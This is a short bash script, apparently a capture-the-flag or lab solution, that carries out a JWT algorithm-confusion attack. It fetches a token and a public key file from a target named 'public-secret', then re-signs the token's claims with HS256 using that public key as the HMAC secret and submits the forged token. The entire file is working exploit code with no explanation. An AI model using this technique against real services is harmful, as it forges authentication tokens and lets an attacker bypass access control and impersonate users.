#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at public-secret token)")"
secret="$(curl -s "$(at public-secret key.pem)" | hex)"
header="$(printf '{"alg":"HS256","typ":"JWT"}' | b64)"
input="$header.$(claims "$token")"
send public-secret "$input.$(hs256 "$input" "$secret")"
